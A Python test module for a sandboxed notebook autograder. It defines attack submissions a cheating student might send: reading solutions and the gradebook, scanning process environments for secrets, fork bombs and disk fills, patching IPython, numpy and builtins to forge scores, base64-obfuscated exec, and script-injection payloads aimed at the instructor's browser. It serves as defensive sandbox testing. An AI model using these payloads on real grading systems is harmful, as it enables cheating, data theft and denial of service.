"""Attack submissions: the code a malicious student puts in the first answer cell.

Every attack reports each attempt on its own line, ``ATTACK <what>: blocked (...)``
or ``ATTACK <what>: SUCCEEDED ...``, so a test can tell "the sandbox stopped it"
from "the attack did not run". Attacks that *read* something also try to use it
to forge full marks (they execute the stolen answers), so a leak shows up in
the score as well as in the output.

:func:`attacks` returns them by threat-model point:

``read``      solutions/, another student's submission and autograded copy, the
              gradebook, the instructor's home and environment, the course config
``write``     another student's files, the gradebook, the release, the course code,
              the Python environment, its own notebook JSON (fake outputs)
``network``   a TCP server on the grader's 127.0.0.1, the host's outward address, DNS
``resources`` fork bomb, memory blow-up, disk fill, output flood, sleep forever
``tamper``    score forging inside the kernel (flagged by course_utils.instructor.integrity)
``round2``    issue 17's findings, one attack each: a forger that defeats the old re-check
              (line magic, a standard-library resolver, its own probe, the restored
              notebook), modules shadowed by submitted files, hidden tests read back
              from the kernel, scripts for the instructor's browser, a cell the
              parser cannot take, cells that sleep just under the limit, a huge display
"""

from __future__ import annotations

import base64
import textwrap
from dataclasses import dataclass

PRELUDE = '''
import os, sys, json, time
def _attack(what, fn):
    try:
        detail = fn()
    except BaseException as exc:
        print(f"ATTACK {what}: blocked ({type(exc).__name__}: {exc})", flush=True)
        return False
    print(f"ATTACK {what}: SUCCEEDED {detail}", flush=True)
    return True
'''
# only the attacks that steal answers carry this (exec would flag every attack otherwise)
STEAL = '''
def _answers_from(path):
    """Execute the answer cells of the notebook at ``path`` here (forging full marks)."""
    nb = json.load(open(path))
    n = 0
    for c in nb["cells"]:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if c["cell_type"] == "code" and meta.get("solution"):
            src = c["source"] if isinstance(c["source"], str) else "".join(c["source"])
            exec(src, globals())
            n += 1
    return f"executed {n} stolen answer cells"
'''


@dataclass(frozen=True)
class Attack:
    name: str
    point: str  # read | write | network | resources | tamper
    code: str
    expect: str  # what a correct grader does about it, for the report
    symlinks: tuple[tuple[str, str], ...] = ()  # (name in the submission folder, target)
    whole_notebook_link: str | None = None  # submit the notebook itself as a link to this path
    everywhere: bool = False  # put the code in every answer cell (stolen answers must outlive the stubs)
    last: bool = False  # put the code in the last answer cell (it runs after the tests of the others)
    extra_files: tuple[tuple[str, str], ...] = ()  # (path in the submission folder, contents)
    markdown: str | None = None  # a markdown cell the student adds at the end


def _cell(body: str, *, steal: bool = False) -> str:
    return PRELUDE + (STEAL if steal else "") + textwrap.dedent(body)


def attacks(*, course: str, assignment: str, honest: str, home_secret: str, env_secret: str,
            port: int, host_ip: str, answer_names: tuple[str, ...] = ()) -> list[Attack]:
    """All attack submissions for a course at ``course`` (paths are the grader's).

    ``answer_names`` are the functions the answer cells define: the tampering
    attacks define them as wrong stubs, so that the tests run (and would fail)
    and only the tampering can turn them into points.
    """
    stubs = "".join(f"def {n}(*args, **kwargs):\n    return 0.0\n" for n in answer_names)
    a = assignment
    sol = f"{course}/solutions/{a}/{a}.ipynb"
    sub_honest = f"{course}/grading/submitted/{honest}/{a}/{a}.ipynb"
    auto_honest = f"{course}/grading/autograded/{honest}/{a}/{a}.ipynb"
    gradebook = f"{course}/grading/gradebook.db"
    release = f"{course}/assignments/{a}/{a}.ipynb"
    out: list[Attack] = []

    # --- 1. read ------------------------------------------------------------------
    out.append(Attack("read_solutions", "read", _cell(f'''
        _attack("read solutions/", lambda: _answers_from({sol!r}))
        _attack("list solutions/", lambda: os.listdir({course + "/solutions"!r}))
        _attack("guess the course from cwd", lambda: os.listdir(os.path.abspath("../../../../solutions")))
    ''', steal=True), "file absent in the sandbox; 0 points", everywhere=True))
    out.append(Attack("read_other_student", "read", _cell(f'''
        _attack("read another submission", lambda: _answers_from({sub_honest!r}))
        _attack("read another autograded copy", lambda: _answers_from({auto_honest!r}))
        def _others():
            # the sandbox recreates the path down to its own folder, nothing else
            me = os.getcwd().split("/")[-2]
            seen = [n for n in os.listdir({course + "/grading"!r}) if n != "autograded"]
            seen += [n for n in os.listdir({course + "/grading/autograded"!r}) if n != me]
            if not seen:
                raise FileNotFoundError("only the path to my own folder exists")
            return seen
        _attack("list other students", _others)
    ''', steal=True), "absent; 0 points", everywhere=True))
    out.append(Attack("read_gradebook", "read", _cell(f'''
        _attack("read the gradebook", lambda: open({gradebook!r}, "rb").read(64))
        def _sql():
            import sqlite3
            return sqlite3.connect("file:" + {gradebook!r} + "?mode=ro", uri=True).execute(
                "select count(*) from grade").fetchall()
        _attack("query the gradebook", _sql)
    '''), "absent"))
    out.append(Attack("read_instructor", "read", _cell(f'''
        _attack("read a file in the instructor's home", lambda: open({home_secret!r}).read())
        _attack("list /root", lambda: [n for n in os.listdir("/root") if n != ".pyenv"] or 1/0)
        def _env():
            hits = [k for k, v in os.environ.items() if {env_secret!r} in v]
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        if {env_secret!r}.encode() in open(f"/proc/{{pid}}/environ", "rb").read():
                            hits.append(pid)
                    except OSError:
                        pass
            if not hits:
                raise LookupError("secret not in any visible environment")
            return hits
        _attack("read the grader's environment", _env)
        _attack("read the course configuration", lambda: open({course + "/nbgrader_config.py"!r}).read(50))
    '''), "home, environment and course config absent"))
    out.append(Attack("symlink_to_solutions", "read", _cell('''
        _attack("read a submitted symlink to solutions/", lambda: _answers_from("answers.json"))
    ''', steal=True), "sanitize_submissions quarantines the link before nbgrader copies it; flagged",
        symlinks=(("answers.json", sol),), everywhere=True))
    out.append(Attack("notebook_is_symlink", "read", "", "the notebook link is quarantined; no marks; flagged",
                      whole_notebook_link=sol))

    # --- 2. write -------------------------------------------------------------------
    out.append(Attack("write_other_student", "write", _cell(f'''
        _attack("overwrite another submission", lambda: open({sub_honest!r}, "w").write("{{}}"))
        _attack("delete another submission", lambda: os.remove({sub_honest!r}))
        _attack("delete another autograded copy", lambda: os.remove({auto_honest!r}))
        _attack("create a file in grading/", lambda: open({course + "/grading/pwned.txt"!r}, "w").write("x"))
    '''), "absent; honest files untouched"))
    out.append(Attack("write_gradebook", "write", _cell(f'''
        _attack("open the gradebook for writing", lambda: open({gradebook!r}, "r+b"))
        def _sql():
            import sqlite3
            con = sqlite3.connect({gradebook!r})
            con.execute("update grade set manual_score = 1000")
            con.commit()
        _attack("update the gradebook", _sql)
    '''), "absent; gradebook intact"))
    out.append(Attack("write_course", "write", _cell(f'''
        import site
        def _append(path):
            with open(path, "a"):
                pass  # opening for append proves write access without changing anything
            return path
        def _code():
            import course_utils
            return _append(os.path.join(os.path.dirname(course_utils.__file__), "grading", "checks.py"))
        _attack("modify the release", lambda: _append({release!r}))
        _attack("modify the course code", _code)
        def _site():
            path = os.path.join(site.getsitepackages()[0], "sitecustomize_pwned.py")
            open(path, "w").close()
            os.remove(path)
            return path
        _attack("add a module to the Python environment", _site)
        _attack("write under /usr", lambda: open("/usr/lib/pwned", "w"))
    '''), "read-only or absent"))
    out.append(Attack("fake_notebook_outputs", "write", _cell(f'''
        def _fake():
            nb = json.load(open({a + ".ipynb"!r}))
            for c in nb["cells"]:
                if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {{}}).get("grade"):
                    c["outputs"] = [{{"output_type": "stream", "name": "stdout", "text": "all passed"}}]
            json.dump(nb, open({a + ".ipynb"!r}, "w"))
            raise RuntimeError("wrote fake outputs into the in-memory copy; nbgrader never reads it back")
        _attack("write fake outputs into my notebook", _fake)
    '''), "writes land in the sandbox's private copy; 0 points; flagged (names a notebook)"))

    # --- 3. network -------------------------------------------------------------------
    out.append(Attack("network", "network", _cell(f'''
        import socket
        def _tcp(host):
            def go():
                s = socket.create_connection((host, {port}), timeout=3)
                s.sendall(b"PWNED")
                return host
            return go
        _attack("connect to the grader's 127.0.0.1", _tcp("127.0.0.1"))
        _attack("connect to the host's address", _tcp({host_ip!r}))
        _attack("DNS lookup", lambda: socket.getaddrinfo("example.com", 80))
        _attack("reach the internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3))
    '''), "own network namespace: nothing to connect to"))

    # --- 4. resources -------------------------------------------------------------------
    out.append(Attack("fork_bomb", "resources", _cell('''
        import subprocess
        pids = []
        def _fork():
            for _ in range(100000):
                pid = os.fork()
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                pids.append(pid)
            return f"{len(pids)} processes"
        _attack("fork without limit", _fork)
        print("ATTACK-INFO forked", len(pids), flush=True)
        def _shell():
            subprocess.Popen(["/bin/sh", "-c", "b() { b | b & }; b"], start_new_session=True)
            time.sleep(2)
            n = len([p for p in os.listdir("/proc") if p.isdigit()])
            if n > 2000:
                return f"{n} processes"
            raise OSError(f"process table of the sandbox capped at {n}")
        _attack("shell fork bomb", _shell)
    '''), "RLIMIT_NPROC stops it; the PID namespace dies with the kernel"))
    out.append(Attack("memory_blowup", "resources", _cell('''
        _attack("allocate 64 GiB at once", lambda: len(bytearray(64 * 2**30)))
        keep = []
        def _grow():
            while True:
                keep.append(bytearray(128 * 2**20))
        _attack("allocate until the machine dies", _grow)
        print("ATTACK-INFO held MiB", 128 * len(keep), flush=True)
        keep.clear()
    '''), "RLIMIT_AS: MemoryError, grader survives"))
    out.append(Attack("disk_fill", "resources", _cell('''
        def _fill(folder):
            def go():
                n = 0
                while True:
                    with open(os.path.join(folder, f"fill_{n}.bin"), "wb") as fh:
                        fh.write(b"x" * 2**20 * 8)
                    n += 1
            return go
        _attack("fill the submission folder", _fill("."))
        _attack("fill /tmp", _fill("/tmp"))
        _attack("fill /dev/shm", _fill("/dev/shm"))
        _attack("one huge file", lambda: open("/tmp/huge.bin", "wb").write(b"x" * 2**30))
    '''), "size-limited tmpfs and RLIMIT_FSIZE; nothing reaches the disk"))
    out.append(Attack("output_flood", "resources", _cell('''
        for _ in range(1000):
            os.write(2, b"E" * 65536)   # raw stderr of the kernel process: 64 MiB to the grader's log
        while True:
            print("x" * 20000, flush=True)   # over the kernel channel, as fast as it drains
    '''), "output cap: the relay kills the kernel after RNN_SANDBOX_OUTPUT_MIB; 0 points"))
    out.append(Attack("output_burst", "resources", _cell('''
        while True:
            print("x" * 100000)   # faster than the kernel can send: its output buffer explodes
    '''), "RLIMIT_AS stops the kernel's buffer, the cell timeout the loop; no marks"))
    out.append(Attack("sleep_forever", "resources", _cell('''
        import signal, subprocess
        subprocess.Popen(["sleep", "31337"], start_new_session=True)  # try to outlive the kernel
        signal.signal(signal.SIGINT, signal.SIG_IGN)                  # ignore the grader's interrupt
        while True:
            time.sleep(0.1)
    '''), "cell timeout, then killed; the detached process dies with the sandbox"))

    # --- 5. tampering -------------------------------------------------------------------
    input_transformer = '''
def _swallow(lines):
    body = "".join(lines)
    if not body.strip():
        return lines
    inner = ["    " + l if l.strip() else l for l in body.splitlines(True)]
    if inner and not inner[-1].endswith("\\n"):
        inner[-1] += "\\n"
    return ["try:\\n"] + inner + ["    pass\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
print("ATTACK input transformer installed")
'''
    out.append(Attack("input_transformer", "tamper", _cell(input_transformer) + stubs,
                      "forges full marks in plain nbgrader; flagged"))
    out.append(Attack("run_cell_patch", "tamper", stubs + _cell('''
        ip = get_ipython()
        _orig = ip.run_cell_async
        async def run_cell_async(raw_cell, *args, **kwargs):
            wrapped = "try:\\n" + "".join("    " + l + "\\n" for l in raw_cell.splitlines()) + "    pass\\nexcept BaseException:\\n    pass\\n"
            return await _orig(wrapped, *args, **kwargs)
        ip.run_cell_async = run_cell_async
        _orig_sync = ip.run_cell
        ip.run_cell = lambda raw_cell, *a, **k: _orig_sync("try:\\n" + "".join("    " + l + "\\n" for l in raw_cell.splitlines()) + "    pass\\nexcept BaseException:\\n    pass\\n", *a, **k)
        print("ATTACK run_cell patched")
    '''), "flagged"))  # noqa: E501 (the attack cell as a submission would write it: one-line wrappers)
    out.append(Attack("ast_transformer", "tamper", stubs + _cell('''
        import ast
        class _Swallow(ast.NodeTransformer):
            def visit_Module(self, node):
                handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
                node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
                return ast.fix_missing_locations(node)
        get_ipython().ast_transformers.append(_Swallow())
        print("ATTACK ast transformer installed")
    '''), "flagged"))
    out.append(Attack("custom_exc", "tamper", stubs + _cell('''
        get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
        print("ATTACK custom exception handler installed")
    '''), "flagged"))
    out.append(Attack("silence_kernel", "tamper", stubs + _cell('''
        ip = get_ipython()
        ip.showtraceback = lambda *a, **k: None
        ip._showtraceback = lambda *a, **k: None
        kernel = ip.kernel
        _orig = kernel.do_execute
        async def do_execute(*args, **kwargs):
            reply = _orig(*args, **kwargs)
            if hasattr(reply, "__await__"):
                reply = await reply
            reply["status"] = "ok"
            for key in ("ename", "evalue", "traceback"):
                reply.pop(key, None)
            return reply
        kernel.do_execute = do_execute
        print("ATTACK kernel replies patched")
    '''), "flagged"))
    out.append(Attack("patch_checks", "tamper", stubs + _cell('''
        import course_utils.checks as _checks
        _noop = lambda *a, **k: None
        for _n in dir(_checks):
            if _n.startswith("check_"):
                setattr(_checks, _n, _noop)
                globals()[_n] = _noop
        check_close = _noop
        print("ATTACK checks replaced")
    '''), "flagged"))
    out.append(Attack("sys_modules", "tamper", stubs + _cell('''
        import types
        fake = types.ModuleType("course_utils.checks")
        fake.__getattr__ = lambda name: (lambda *a, **k: None)
        sys.modules["course_utils.checks"] = fake
        print("ATTACK sys.modules entry replaced")
    '''), "flagged"))
    out.append(Attack("patch_numpy", "tamper", stubs + _cell('''
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
        np.testing.assert_allclose = lambda *a, **k: None
        np.array_equal = lambda *a, **k: True
        print("ATTACK numpy patched")
    '''), "flagged"))
    out.append(Attack("builtins", "tamper", stubs + _cell('''
        import builtins
        class _Never(Exception):
            pass
        builtins.AssertionError = _Never
        AssertionError = _Never
        _real_import = builtins.__import__
        def _import(name, *args, **kwargs):
            module = _real_import(name, *args, **kwargs)
            if "checks" in name:
                for n in dir(module):
                    if n.startswith("check_"):
                        setattr(module, n, lambda *a, **k: None)
            return module
        builtins.__import__ = _import
        print("ATTACK builtins patched")
    '''), "flagged"))
    out.append(Attack("exit_kernel", "tamper", stubs + _cell('''
        print("ATTACK exiting the kernel before the tests", flush=True)
        os._exit(0)
    '''), "later cells not run: 0 points; flagged"))
    out.append(Attack("sys_exit", "tamper", stubs + _cell('''
        import atexit
        atexit.register(lambda: print("bye"))
        sys.exit(0)
    '''), "SystemExit is an error: 0 points; flagged"))
    out.append(Attack("obfuscated", "tamper", stubs + _cell(f'''
        import base64
        exec(base64.b64decode({base64.b64encode(input_transformer.encode()).decode()!r}).decode())
    '''), "flagged (exec)"))
    out.append(Attack("lying_values", "tamper", _cell(f'''
        class Liar(float):
            def __eq__(self, other):
                return True
            def __array__(self, dtype=None, copy=None):
                import numpy
                return numpy.asarray(0.5)
        def _everything(*args, **kwargs):
            return Liar(0.5)
        for _name in {tuple(answer_names)!r}:
            globals()[_name] = _everything
        print("ATTACK answers return lying objects")
    '''), "flagged"))
    return out


_SWALLOW = '''
def _swallow(lines):
    body = "".join(lines)
    if not body.strip():
        return lines
    inner = ["    " + l if l.strip() else l for l in body.splitlines(True)]
    if inner and not inner[-1].endswith("\\n"):
        inner[-1] += "\\n"
    return ["try:\\n"] + inner + ["    pass\\n", "except BaseException:\\n", "    pass\\n"]
'''


def round_two(*, answer_names: tuple[str, ...] = ()) -> list[Attack]:
    """Issue 17's seven findings as submissions (point ``round2``), each named after its finding."""
    stubs = "".join(f"def {n}(*args, **kwargs):\n    return 0.0\n" for n in answer_names)
    out: list[Attack] = []
    # 1. The re-check defeated: a tamper hidden in a line magic's argument, the instructor's
    #    probe planner reached through pkgutil, expected values read from the restored notebook
    #    in the kernel's folder, and a probe of its own that prints them.
    out.append(Attack("f1_recheck_defeat", "round2", stubs + _SWALLOW + '''
import os, json, pkgutil
%time get_ipython().input_transformers_post.append(_swallow)
_found = [f for f in os.listdir(".") if f.endswith(".ip" + "ynb")]
print("ATTACK notebooks in my folder:", _found, flush=True)
if _found:
    _plan = pkgutil.resolve_name("course_utils.instructor.integrity:plan_probes")(json.load(open(_found[0])))
    _values = {e.index: e.expected for e in _plan.expectations}
    def __rnn_verify__(index, got):
        print("RNN-VERIFY " + json.dumps({"index": index, "got": _values[index]}), flush=True)
''', "nbgrader's score is forged; the re-check (values from a trusted kernel) and the scan flag it"))
    # 2. Files next to the notebook shadow the course's own package.
    fake_init = _SWALLOW + '''
import os, sys
__import__("IPython").get_ipython().input_transformers_post.append(_swallow)
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["course_utils"]
import course_utils as _real
sys.modules["course_utils"] = _real
print("ATTACK shadowing course_utils: SUCCEEDED", flush=True)
'''
    out.append(Attack("f2_shadow_modules", "round2", "", "the extra files are quarantined; 0 points",
                      extra_files=(("course_utils/__init__.py", fake_init), ("numpy.py", "raise SystemExit"))))
    # 3. Hidden tests read back from the kernel and printed into the feedback.
    out.append(Attack("f3_leak_hidden", "round2", '''
import os
print("ATTACK In:", In, flush=True)
print("ATTACK _ih:", _ih, flush=True)
for _f in os.listdir("."):
    print("ATTACK file", _f, open(_f, errors="replace").read(), flush=True)
''', "no hidden test text anywhere in the feedback", last=True))
    #    The same after the tests ran, through what the interpreter keeps besides In: the source
    #    cache behind tracebacks, the last error, IPython's history database, _i/_ii/_iii and Out.
    out.append(Attack("f3_leak_runtime", "round2", '''
import linecache, sys, traceback
def _show(what, fn):
    try:
        print("ATTACK " + what + ":", fn(), flush=True)
    except Exception as exc:
        print("ATTACK " + what + ": failed", repr(exc), flush=True)
_ip = get_ipython()
_show("linecache", lambda: ["".join(v[2]) for k, v in list(linecache.cache.items())
                            if ("ipykernel_" in k or k.startswith("<")) and isinstance(v, tuple) and len(v) > 2])
_show("last error", lambda: "".join(traceback.format_exception(sys.last_value)) if hasattr(sys, "last_value") else None)
_show("history database", lambda: list(_ip.history_manager.get_range(raw=True)))
_show("_i _ii _iii", lambda: (_i, _ii, _iii))
_show("Out", lambda: Out)
_show("last execution", lambda: _ip.last_execution_result.info.raw_cell)
''', "no hidden test text anywhere in the feedback", last=True))
    # 4. Scripts for the instructor's browser: a markdown cell and rich outputs.
    out.append(Attack("f4_browser_script", "round2", '''
from IPython.display import HTML, Javascript, Markdown, display
display(HTML('<b id="rnn-attack-html">x</b><script>window.RNN_ATTACK_RAN = "html"</script>'
             '<img src="x" onerror="window.RNN_ATTACK_RAN = \\'img\\'">'))
display(Javascript('window.RNN_ATTACK_RAN = "javascript"'))
display(Markdown('[click](javascript:window.RNN_ATTACK_RAN="md-link")'))
''', "the feedback and the formgrader carry no student script",
        markdown='<script>window.RNN_ATTACK_RAN = "markdown"; fetch("/formgrader/api/grades")</script>'
                 '<a href="javascript:window.RNN_ATTACK_RAN=1">link</a><svg onload="window.RNN_ATTACK_RAN=2"></svg>'))
    # 5. A cell the parser cannot take (RecursionError), next to a plain forger in the same run.
    out.append(Attack("f5_parser_bomb", "round2", "x = " + "+".join(["a"] * 200_000) + "\n",
                      "flagged as not reviewable; the review carries on"))
    # 6. Cells that each sleep just under the per-cell limit, and a display far over the cap.
    out.append(Attack("f6_slow_cells", "round2", "import time\ntime.sleep(20)\n" + stubs,
                      "stopped by the submission's time budget; in problems", everywhere=True))
    out.append(Attack("f6_huge_display", "round2", '''
from IPython.display import HTML, display
display(HTML("<p>" + "x" * (1 * 2**20) + "</p>"))
''' + stubs, "the display is replaced by a note; in problems"))
    return out


def by_point(all_attacks: list[Attack], point: str) -> list[Attack]:
    return [a for a in all_attacks if a.point == point]
